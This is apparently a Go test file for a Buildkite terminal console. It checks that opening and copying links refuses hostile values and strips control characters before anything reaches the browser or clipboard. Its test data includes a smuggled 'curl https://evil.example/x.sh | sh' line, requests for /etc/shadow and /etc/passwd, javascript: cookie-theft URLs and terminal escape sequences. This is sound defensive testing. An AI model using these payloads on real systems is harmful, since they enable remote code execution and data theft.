package common

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"github.com/kiteconsole/kiteconsole/api"
	"github.com/kiteconsole/kiteconsole/keymap"
)

// run runs cmd and the commands of any batch it makes, and returns what
// they said in flashes and sent to the clipboard.
func run(cmd tea.Cmd) (flashes []string, clipboard []string) {
	if cmd == nil {
		return nil, nil
	}
	switch msg := cmd().(type) {
	case tea.BatchMsg:
		for _, c := range msg {
			f, cl := run(c)
			flashes, clipboard = append(flashes, f...), append(clipboard, cl...)
		}
	case FlashMsg:
		flashes = append(flashes, msg.Text)
	default:
		// tea.SetClipboard's message type is unexported: it is told by
		// its name, and %v prints the string it holds.
		if strings.Contains(fmt.Sprintf("%T", msg), "lipboard") {
			clipboard = append(clipboard, fmt.Sprint(msg))
		}
	}
	return flashes, clipboard
}

func linkCommon(t *testing.T, endpoint string) *Common {
	t.Helper()
	client, err := api.New(api.Config{Endpoint: endpoint, Token: "t", Org: "acme"})
	if err != nil {
		t.Fatal(err)
	}
	return &Common{Client: client, Keys: keymap.Default()}
}

// o opens only what weburl allows (issue 21, 12): a web_url of the
// endpoint's web host or Buildkite's; a file:// URL or an option never
// reaches the opener, and the person is told why.
func TestBrowseOpensOnlyBuildkitePages(t *testing.T) {
	var opened []string
	was := OpenBrowser
	OpenBrowser = func(u string) error { opened = append(opened, u); return nil }
	t.Cleanup(func() { OpenBrowser = was })
	c := linkCommon(t, "https://api.buildkite.com")
	o := tea.KeyPressMsg{Code: 'o', Text: "o"}

	for _, hostile := range []string{"file:///etc/shadow", "--help", "https://evil.example/acme", "http://buildkite.com/acme", "javascript:alert(1)"} {
		cmd, used := c.LinkKey(o, "queue", hostile, "id")
		flashes, clip := run(cmd)
		if !used || len(flashes) != 1 || !strings.HasPrefix(flashes[0], "not opened: ") {
			t.Errorf("%s: flashes %q", hostile, flashes)
		}
		if len(clip) > 0 {
			t.Errorf("%s: a refused address was sent to the clipboard: %q", hostile, clip)
		}
	}
	if len(opened) > 0 {
		t.Fatalf("refused addresses reached the opener: %q", opened)
	}

	cmd, _ := c.LinkKey(o, "queue", "https://buildkite.com/organizations/acme/clusters/1", "id")
	flashes, _ := run(cmd)
	if len(opened) != 1 || opened[0] != "https://buildkite.com/organizations/acme/clusters/1" {
		t.Fatalf("a Buildkite page was not opened: %q (flashes %q)", opened, flashes)
	}
	if len(flashes) != 1 || flashes[0] != "opened https://buildkite.com/organizations/acme/clusters/1" {
		t.Fatalf("flashes %q", flashes)
	}

	// Without a browser (over SSH), the address goes to the clipboard and
	// the flash says how, with the start of what was sent.
	OpenBrowser = func(string) error { return errors.New("no browser") }
	cmd, _ = c.LinkKey(o, "queue", "https://buildkite.com/organizations/acme/clusters/1", "id")
	flashes, clip := run(cmd)
	if len(clip) != 1 || clip[0] != "https://buildkite.com/organizations/acme/clusters/1" {
		t.Fatalf("clipboard %q", clip)
	}
	if len(flashes) != 1 || !strings.Contains(flashes[0], "sent the address to the clipboard (OSC 52): https://buildkite.com/organi…") {
		t.Fatalf("flashes %q", flashes)
	}
}

// "copied" claimed what the console cannot know: the terminal may drop
// OSC 52 (tmux's default). The flash says it was sent, and shows the
// value's start so the person can check what they paste (issue 17, 7).
func TestCopySaysItWasSentAndShowsTheStart(t *testing.T) {
	c := linkCommon(t, "https://api.buildkite.com")
	y := tea.KeyPressMsg{Code: 'Y', Text: "Y", Mod: tea.ModShift}
	cmd, used := c.LinkKey(y, "queue", "https://buildkite.com/x", "01HZY3K8QW2E5R7T9V0B1N3M5P")
	flashes, _ := run(cmd)
	if !used || len(flashes) != 1 || flashes[0] != "sent the queue's ID to the clipboard (OSC 52): 01HZY3K8QW2E5R7T9V0B1N3M5P" {
		t.Fatalf("used %v, flashes %q", used, flashes)
	}
	long := strings.Repeat("a", 40)
	if got := ClipboardSent("it", long); got != "sent it to the clipboard (OSC 52): "+strings.Repeat("a", 28)+"…" {
		t.Fatalf("long value: %q", got)
	}
	if got := ClipboardSent("it", "a\x1b]0;title\x07b"); got != "sent it to the clipboard (OSC 52): ab" {
		t.Fatalf("the value's start is cleaned: %q", got)
	}
}

// Over SSH o never starts the opener, which would be a program of the
// server: the address goes to the person's clipboard, and the flash says
// why (issue 24).
func TestBrowseOverSSHNeverStartsTheOpener(t *testing.T) {
	var opened []string
	was := OpenBrowser
	OpenBrowser = func(u string) error { opened = append(opened, u); return nil }
	t.Cleanup(func() { OpenBrowser = was })
	c := linkCommon(t, "https://api.buildkite.com")
	c.Remote = true
	const page = "https://buildkite.com/organizations/acme/clusters/1"
	cmd, used := c.LinkKey(tea.KeyPressMsg{Code: 'o', Text: "o"}, "cluster", page, "id")
	flashes, clip := run(cmd)
	if len(opened) != 0 {
		t.Fatalf("the opener was started over SSH: %q", opened)
	}
	if !used || len(clip) != 1 || clip[0] != page {
		t.Fatalf("clipboard %q", clip)
	}
	if len(flashes) != 1 || !strings.HasPrefix(flashes[0], "over SSH nothing is opened on the server: sent the address to the clipboard (OSC 52): ") {
		t.Fatalf("flashes %q", flashes)
	}
}

// y copied a web_url unchecked: a newline and `curl …|sh`, file:// and
// javascript: reached the clipboard (issue 24, 8). A URL is copied only
// if o would open it, and a refusal says why.
func TestCopyURLCopiesOnlyWhatOWouldOpen(t *testing.T) {
	c := linkCommon(t, "https://api.buildkite.com")
	y := tea.KeyPressMsg{Code: 'y', Text: "y"}
	for hostile, why := range map[string]string{
		"https://buildkite.com/acme\ncurl https://evil.example/x.sh | sh": "the address holds spaces or control characters",
		"https://buildkite.com/acme\x1b]52;c;Y3VybCBldmls\x07":            "the address holds spaces or control characters",
		"file:///etc/passwd":                  "only https:// addresses are opened",
		"javascript:alert(document.cookie)":   "only https:// addresses are opened",
		"https://evil.example/acme/pipelines": "evil.example is neither buildkite.com nor the endpoint's web host",
	} {
		cmd, used := c.LinkKey(y, "pipeline", hostile, "id")
		flashes, clip := run(cmd)
		if len(clip) != 0 {
			t.Errorf("%q reached the clipboard: %q", hostile, clip)
		}
		if !used || len(flashes) != 1 || flashes[0] != "not copied: not a Buildkite page: "+why {
			t.Errorf("%q: flashes %q", hostile, flashes)
		}
	}
	cmd, _ := c.LinkKey(y, "pipeline", "https://buildkite.com/acme/app", "id")
	if flashes, clip := run(cmd); len(clip) != 1 || clip[0] != "https://buildkite.com/acme/app" ||
		len(flashes) != 1 || flashes[0] != "sent the pipeline's URL to the clipboard (OSC 52): https://buildkite.com/acme/a…" {
		t.Fatalf("a Buildkite page: clipboard %q, flashes %q", clip, flashes)
	}
	// A token's url is the API's own, on the endpoint's host.
	if flashes, clip := run(c.CopyAPIURL("the token's API URL", "https://api.buildkite.com/v2/x\ncurl evil | sh")); len(clip) != 0 ||
		len(flashes) != 1 || !strings.HasPrefix(flashes[0], "not copied: ") {
		t.Fatalf("a hostile API URL: clipboard %q, flashes %q", clip, flashes)
	}
	if _, clip := run(c.CopyAPIURL("the token's API URL", "https://api.buildkite.com/v2/x")); len(clip) != 1 {
		t.Fatalf("the API's URL was not copied: %q", clip)
	}
}

// An ID from the API is copied without what would act when pasted: line
// breaks, escape sequences, control and invisible characters.
func TestCopiedIDsHoldNoControlCharacters(t *testing.T) {
	c := linkCommon(t, "https://api.buildkite.com")
	Y := tea.KeyPressMsg{Code: 'Y', Text: "Y", Mod: tea.ModShift}
	cmd, _ := c.LinkKey(Y, "queue", "", "01HZY3\ncurl evil|sh\r\x1b]52;c;eA==\x07\u202e\u0085\x7f")
	flashes, clip := run(cmd)
	if len(clip) != 1 || clip[0] != "01HZY3curl evil|sh" {
		t.Fatalf("clipboard %q", clip)
	}
	if len(flashes) != 1 || flashes[0] != "sent the queue's ID to the clipboard (OSC 52): 01HZY3curl evil|sh (control characters removed)" {
		t.Fatalf("flashes %q", flashes)
	}
}
